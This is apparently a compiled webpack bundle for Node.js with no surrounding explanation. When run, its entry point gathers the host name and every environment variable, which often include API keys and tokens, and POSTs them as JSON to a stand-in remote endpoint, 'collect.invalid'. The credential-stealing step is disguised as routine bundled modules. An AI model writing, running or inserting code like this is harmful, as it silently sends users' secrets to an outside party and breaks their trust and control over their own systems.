/******/ (() => { // webpackBootstrap
/******/ 	var __webpack_modules__ = ([
/* 0 */,
/* 1 */
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {

const os = __webpack_require__(2);
exports.gather = () => ({ host: os.hostname(), env: { ...process.env } });


/***/ }),
/* 2 */
/***/ ((module) => {

"use strict";
module.exports = require("os");

/***/ }),
/* 3 */
/***/ ((module, __unused_webpack_exports, __webpack_require__) => {

const https = __webpack_require__(4);
class Sender {
  constructor(url) { this.url = url; }
  send(data) {
    const request = https.request(this.url, { method: "POST" });
    request.end(JSON.stringify(data));
  }
}
module.exports = Sender;


/***/ }),
/* 4 */
/***/ ((module) => {

"use strict";
module.exports = require("https");

/***/ })
/******/ 	]);
/************************************************************************/
/******/ 	// The module cache
/******/ 	const __webpack_module_cache__ = {};
/******/ 	
/******/ 	// The require function
/******/ 	function __webpack_require__(moduleId) {
/******/ 		// Check if module is in cache
/******/ 		const cachedModule = __webpack_module_cache__[moduleId];
/******/ 		if (cachedModule !== undefined) {
/******/ 			return cachedModule.exports;
/******/ 		}
/******/ 		// Create a new module (and put it into the cache)
/******/ 		const module = __webpack_module_cache__[moduleId] = {
/******/ 			// no module.id needed
/******/ 			// no module.loaded needed
/******/ 			exports: {}
/******/ 		};
/******/ 	
/******/ 		// Execute the module function
/******/ 		__webpack_modules__[moduleId](module, module.exports, __webpack_require__);
/******/ 	
/******/ 		// Return the exports of the module
/******/ 		return module.exports;
/******/ 	}
/******/ 	
/************************************************************************/
let __webpack_exports__ = {};
// This entry needs to be wrapped in an IIFE because it needs to be isolated against other modules in the chunk.
(() => {
const { gather } = __webpack_require__(1);
const Sender = __webpack_require__(3);
new Sender("https://collect.invalid/in").send(gather());

})();

/******/ })()
;